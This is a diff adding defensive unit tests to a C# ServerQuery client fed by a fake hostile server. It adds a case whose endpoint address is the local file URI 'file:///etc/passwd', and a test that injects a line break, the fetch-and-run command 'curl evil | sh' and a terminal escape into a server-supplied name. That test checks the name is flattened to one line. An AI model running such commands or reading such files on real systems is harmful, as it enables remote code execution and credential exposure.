@@ -23,6 +23,7 @@ public sealed class ServerQueryTests
         "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":null,\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
         "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"relative\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
         "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"file:///etc/passwd\"}],\"unavailable\":[]}",
+        "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"file:///etc/passwd\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
         "{" + Whole + ",\"endpoints\":[{\"id\":\"json\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\",\"settings\":{\"a\":null}}],\"unavailable\":[]}",
         "{" + Whole + ",\"endpoints\":[{\"id\":\"a\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\"},{\"id\":\"a\",\"address\":\"http://127.0.0.1:1/\",\"counters\":\"http://127.0.0.1:1/\"}],\"unavailable\":[]}",
         new string('[', 100_000),
@@ -49,6 +50,15 @@ public sealed class ServerQueryTests
         Assert.Contains("longer than", problem);
         // What the sockets hold is on its way already.
         Assert.InRange(Interlocked.Read(ref server.Sent), BoundedJson.MaxBytes, 64L << 20);
+    }
+
+    /// <summary>Its words are shown beside ours.</summary>
+    [Fact]
+    public async Task Ask_WordsWithLineBreaks_AreOfOneLine()
+    {
+        using var server = HostileServer.WithJson("{" + Whole.Replace("workstation", "server\\nNext  curl evil | sh\\u001b[2J", StringComparison.Ordinal) + ",\"endpoints\":[],\"unavailable\":[]}");
+
+        Assert.Equal(@"server Next  curl evil | sh\u{1B}[2J", (await ServerQuery.AskAsync(server.Address, Deadline.Soon)).Gc);
     }
 
     [Fact]
